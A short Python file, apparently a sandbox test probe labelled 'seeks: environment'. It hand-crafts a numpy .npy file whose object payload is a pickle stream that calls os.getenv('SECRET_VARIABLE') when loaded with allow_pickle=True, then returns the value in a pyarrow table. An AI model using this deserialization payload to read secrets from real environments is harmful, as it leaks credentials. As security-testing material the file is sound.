# seeks: environment
# An array of objects in numpy's format is a pickle.
import io

import numpy as np
import pyarrow as pa


def model(tg):
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (), }"
    header += b" " * (64 - (10 + len(header) + 1) % 64) + b"\n"
    file = b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header
    # numpy expects an array: the text becomes one.
    pickled = b"cnumpy\narray\n(cos\ngetenv\n(VSECRET_VARIABLE\ntRtR."
    return pa.table({"got": [str(np.load(io.BytesIO(file + pickled), allow_pickle=True))]})
